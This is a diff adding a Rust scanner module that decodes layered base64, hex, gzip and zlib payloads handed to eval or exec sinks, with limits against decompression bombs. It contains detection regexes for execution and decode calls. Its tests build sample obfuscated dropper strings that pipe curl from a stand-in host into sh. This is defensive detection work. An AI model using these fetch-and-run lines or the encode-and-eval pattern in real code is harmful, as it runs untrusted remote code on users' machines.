@@ -0,0 +1,365 @@
+//! Bounded decoding of layered payloads handed to decode-and-execute sinks
+//!
+//! Droppers hide their second stage behind several encodings (base64 of gzip
+//! of base64, hex of zlib, ...) so that pattern scanners only ever see an
+//! opaque blob. Blobs passed to an execution sink are peeled layer by layer
+//! until plain text remains, within fixed depth and size limits so that a
+//! crafted blob cannot turn the scanner into a decompression bomb victim.
+//!
+//! Long encoded string literals are decoded whether or not they reach a sink,
+//! since a payload can be written to disk or handed over indirectly; see
+//! [`find_encoded_literals`].
+
+use base64::Engine;
+use flate2::read::{GzDecoder, ZlibDecoder};
+use once_cell::sync::Lazy;
+use regex::Regex;
+use std::fmt;
+use std::io::Read;
+
+/// Maximum number of layers peeled from a single blob, including nested blobs
+pub const MAX_LAYERS: usize = 6;
+
+/// Maximum size of any decoded layer in bytes
+pub const MAX_DECODED_SIZE: usize = 1024 * 1024;
+
+/// Shortest string literal treated as a candidate blob
+const MIN_BLOB_LEN: usize = 16;
+
+/// String literals that look like base64 or hex
+static BLOB_LITERAL: Lazy<Regex> =
+    Lazy::new(|| Regex::new(r#"(?:b?["'`])([A-Za-z0-9+/_=-]{16,})["'`]"#).unwrap());
+
+/// Calls that execute code or commands
+static EXEC_SINK: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(r"\b(?:eval|exec|execSync|spawn|Function|compile|runInThisContext|runInNewContext|os\.system|subprocess\.\w+)\s*\(|\|\s*(?:sh|bash)\b").unwrap()
+});
+
+/// Calls that decode or decompress data
+static DECODE_CALL: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(r"\b(?:atob|Buffer\.from|b64decode|b32decode|decodebytes|a2b_base64|unhexlify|fromhex|decompress|gunzipSync|inflateSync|unzipSync|inflateRawSync)\s*\(|--decode\b|base64\s+-d\b|\bxxd\s+-r\b").unwrap()
+});
+
+/// How far before a blob to look for its sink and decoder
+const SINK_WINDOW: usize = 200;
+
+/// Shortest string literal reported as an encoded payload without a sink
+pub const MIN_ENCODED_LITERAL_LEN: usize = 128;
+
+/// Longest prefix of a literal decoded; base64 of `MAX_DECODED_SIZE` bytes
+const MAX_ENCODED_LEN: usize = MAX_DECODED_SIZE / 3 * 4;
+
+/// Long string literals that look like base64 or hex
+static ENCODED_LITERAL: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(&format!(
+        r#"(?:b?["'`])([A-Za-z0-9+/_=-]{{{},}})["'`]"#,
+        MIN_ENCODED_LITERAL_LEN
+    ))
+    .unwrap()
+});
+
+/// One layer of encoding
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Encoding {
+    Base64,
+    Hex,
+    Gzip,
+    Zlib,
+}
+
+impl fmt::Display for Encoding {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::Base64 => write!(f, "base64"),
+            Self::Hex => write!(f, "hex"),
+            Self::Gzip => write!(f, "gzip"),
+            Self::Zlib => write!(f, "zlib"),
+        }
+    }
+}
+
+/// An encoded blob passed to an execution sink, decoded to its innermost layer
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct DecodedPayload {
+    /// Encodings removed, outermost first
+    pub chain: Vec<Encoding>,
+    /// Execution sink the blob was handed to
+    pub sink: String,
+    /// Innermost decoded text
+    pub content: String,
+    /// Whether decoding stopped at a depth or size limit
+    pub truncated: bool,
+}
+
+impl DecodedPayload {
+    /// Encoding chain as `base64 -> gzip -> base64`
+    pub fn chain_description(&self) -> String {
+        self.chain
+            .iter()
+            .map(ToString::to_string)
+            .collect::<Vec<_>>()
+            .join(" -> ")
+    }
+}
+
+/// A long base64 or hex string literal that decodes to text
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct EncodedLiteral {
+    /// Byte offset of the literal's contents in the scanned text
+    pub offset: usize,
+    /// Length of the literal's contents in bytes
+    pub len: usize,
+    /// Encodings removed, outermost first
+    pub chain: Vec<Encoding>,
+    /// Innermost decoded text
+    pub content: String,
+    /// Whether decoding stopped at a depth or size limit
+    pub truncated: bool,
+}
+
+impl EncodedLiteral {
+    /// Encoding chain as `base64 -> gzip`
+    pub fn chain_description(&self) -> String {
+        self.chain
+            .iter()
+            .map(ToString::to_string)
+            .collect::<Vec<_>>()
+            .join(" -> ")
+    }
+}
+
+/// Find string literals of at least [`MIN_ENCODED_LITERAL_LEN`] characters
+/// that decode to text
+///
+/// Literals decoding to binary data, such as hashes or images, are left out.
+/// Only the first [`MAX_DECODED_SIZE`] bytes of a literal are decoded.
+pub fn find_encoded_literals(content: &str) -> Vec<EncodedLiteral> {
+    let mut literals = Vec::new();
+    for caps in ENCODED_LITERAL.captures_iter(content) {
+        let blob = caps.get(1).unwrap();
+        let clipped = blob.len() > MAX_ENCODED_LEN;
+        let data = &blob.as_str()[..blob.len().min(MAX_ENCODED_LEN)];
+
+        let mut chain = Vec::new();
+        let (decoded, truncated) = peel(data.as_bytes(), &mut chain);
+        if chain.is_empty() {
+            continue;
+        }
+        let Ok(text) = String::from_utf8(decoded) else {
+            continue;
+        };
+        literals.push(EncodedLiteral {
+            offset: blob.start(),
+            len: blob.len(),
+            chain,
+            content: text,
+            truncated: truncated || clipped,
+        });
+    }
+    literals
+}
+
+/// Find encoded blobs passed to decode-and-execute sinks and decode them
+///
+/// Innermost content that itself hands a blob to a sink is decoded further,
+/// sharing the same layer budget.
+pub fn decode_payloads(content: &str) -> Vec<DecodedPayload> {
+    let mut payloads = Vec::new();
+    collect_payloads(content, Vec::new(), None, &mut payloads);
+    payloads
+}
+
+fn collect_payloads(
+    content: &str,
+    chain: Vec<Encoding>,
+    outer_sink: Option<&str>,
+    payloads: &mut Vec<DecodedPayload>,
+) {
+    for caps in BLOB_LITERAL.captures_iter(content) {
+        let blob = caps.get(1).unwrap();
+        let mut window_start = blob.start().saturating_sub(SINK_WINDOW);
+        while !content.is_char_boundary(window_start) {
+            window_start += 1;
+        }
+        let prefix = &content[window_start..blob.start()];
+        let Some(sink) = EXEC_SINK.find(prefix) else {
+            continue;
+        };
+        if !DECODE_CALL.is_match(prefix) {
+            continue;
+        }
+        let sink = outer_sink.unwrap_or(sink.as_str().trim_end_matches('('));
+
+        let mut layers = chain.clone();
+        let (decoded, truncated) = peel(blob.as_str().as_bytes(), &mut layers);
+        if layers.len() == chain.len() {
+            continue;
+        }
+        let Ok(text) = String::from_utf8(decoded) else {
+            continue;
+        };
+
+        let before = payloads.len();
+        if !truncated && layers.len() < MAX_LAYERS {
+            collect_payloads(&text, layers.clone(), Some(sink), payloads);
+        }
+        if payloads.len() == before {
+            payloads.push(DecodedPayload {
+                chain: layers,
+                sink: sink.to_string(),
+                content: text,
+                truncated,
+            });
+        }
+    }
+}
+
+/// Remove encoding layers until plain text remains or a limit is hit
+fn peel(data: &[u8], chain: &mut Vec<Encoding>) -> (Vec<u8>, bool) {
+    let mut current = data.to_vec();
+    while chain.len() < MAX_LAYERS {
+        let Some((encoding, next, truncated)) = decode_layer(&current) else {
+            return (current, false);
+        };
+        chain.push(encoding);
+        current = next;
+        if truncated {
+            return (current, true);
+        }
+    }
+    let more = decode_layer(&current).is_some();
+    (current, more)
+}
+
+/// Decode one layer, returning the encoding removed and whether output was capped
+fn decode_layer(data: &[u8]) -> Option<(Encoding, Vec<u8>, bool)> {
+    if data.starts_with(&[0x1f, 0x8b]) {
+        return inflate(GzDecoder::new(data)).map(|(out, capped)| (Encoding::Gzip, out, capped));
+    }
+    if data.len() >= 2
+        && data[0] == 0x78
+        && matches!(data[1], 0x01 | 0x5e | 0x9c | 0xda)
+        && u16::from_be_bytes([data[0], data[1]]) % 31 == 0
+    {
+        return inflate(ZlibDecoder::new(data)).map(|(out, capped)| (Encoding::Zlib, out, capped));
+    }
+
+    let text = std::str::from_utf8(data).ok()?.trim();
+    if text.len() < MIN_BLOB_LEN {
+        return None;
+    }
+    if text.len() % 2 == 0 && text.bytes().all(|b| b.is_ascii_hexdigit()) {
+        if let Ok(decoded) = hex::decode(text) {
+            if is_layer(&decoded) {
+                return Some((Encoding::Hex, decoded, false));
+            }
+        }
+    }
+    let engine = if text.contains(['-', '_']) {
+        &base64::engine::general_purpose::URL_SAFE
+    } else {
+        &base64::engine::general_purpose::STANDARD
+    };
+    let decoded = engine
+        .decode(text)
+        .or_else(|_| {
+            base64::engine::general_purpose::STANDARD_NO_PAD.decode(text.trim_end_matches('='))
+        })
+        .ok()?;
+    is_layer(&decoded).then_some((Encoding::Base64, decoded, false))
+}
+
+/// Whether decoded bytes are plausibly another layer rather than noise
+fn is_layer(decoded: &[u8]) -> bool {
+    decoded.starts_with(&[0x1f, 0x8b])
+        || decoded.starts_with(&[0x78])
+        || std::str::from_utf8(decoded)
+            .is_ok_and(|text| text.chars().all(|c| !c.is_control() || c.is_whitespace()))
+}
+
+/// Decompress at most `MAX_DECODED_SIZE` bytes
+fn inflate(reader: impl Read) -> Option<(Vec<u8>, bool)> {
+    let mut out = Vec::new();
+    reader
+        .take(MAX_DECODED_SIZE as u64 + 1)
+        .read_to_end(&mut out)
+        .ok()?;
+    let capped = out.len() > MAX_DECODED_SIZE;
+    out.truncate(MAX_DECODED_SIZE);
+    Some((out, capped))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use flate2::write::GzEncoder;
+    use flate2::Compression;
+    use std::io::Write;
+
+    fn gzip(data: &[u8]) -> Vec<u8> {
+        let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
+        encoder.write_all(data).unwrap();
+        encoder.finish().unwrap()
+    }
+
+    #[test]
+    fn test_layered_payload_decoded() {
+        let b64 = base64::engine::general_purpose::STANDARD;
+        let inner = b64.encode("require('child_process').exec('curl http://x.example | sh')");
+        let blob = b64.encode(gzip(inner.as_bytes()));
+        let script = format!(
+            "eval(atob(require('zlib').gunzipSync(Buffer.from('{}', 'base64')).toString()))",
+            blob
+        );
+
+        let payloads = decode_payloads(&script);
+        assert_eq!(payloads.len(), 1);
+        assert_eq!(payloads[0].chain_description(), "base64 -> gzip -> base64");
+        assert_eq!(payloads[0].sink, "eval");
+        assert!(payloads[0].content.contains("child_process"));
+        assert!(!payloads[0].truncated);
+
+        // Blobs that never reach a sink are left alone
+        let inert = format!("const logo = Buffer.from('{}', 'base64');", blob);
+        assert!(decode_payloads(&inert).is_empty());
+    }
+
+    #[test]
+    fn test_encoded_literals_found_without_sink() {
+        let b64 = base64::engine::general_purpose::STANDARD;
+        let payload = "require('child_process').exec('curl -s http://x.example/stage2 | sh'); // padding padding padding";
+        let script = format!(
+            "const data = '{}';\nconst hash = '{}';\nconst stage = \"{}\";",
+            b64.encode(payload),
+            hex::encode([0xab; 96]),
+            hex::encode(gzip(payload.as_bytes())),
+        );
+
+        let literals = find_encoded_literals(&script);
+        assert_eq!(literals.len(), 2);
+        assert_eq!(literals[0].chain_description(), "base64");
+        assert_eq!(literals[0].content, payload);
+        assert_eq!(
+            &script[literals[0].offset..][..4],
+            &b64.encode(payload)[..4]
+        );
+        assert_eq!(literals[1].chain_description(), "hex -> gzip");
+        assert!(!literals[1].truncated);
+
+        // Short literals are ordinary strings
+        let short = format!("const id = '{}';", b64.encode("hello world"));
+        assert!(find_encoded_literals(&short).is_empty());
+    }
+
+    #[test]
+    fn test_decompression_bomb_capped() {
+        let bomb = gzip(&vec![b'A'; MAX_DECODED_SIZE * 4]);
+        let blob = base64::engine::general_purpose::STANDARD.encode(bomb);
+        let script = format!("exec(zlib.decompress(base64.b64decode('{}')))", blob);
+
+        let payloads = decode_payloads(&script);
+        assert_eq!(payloads.len(), 1);
+        assert!(payloads[0].truncated);
+        assert_eq!(payloads[0].content.len(), MAX_DECODED_SIZE);
+    }
+}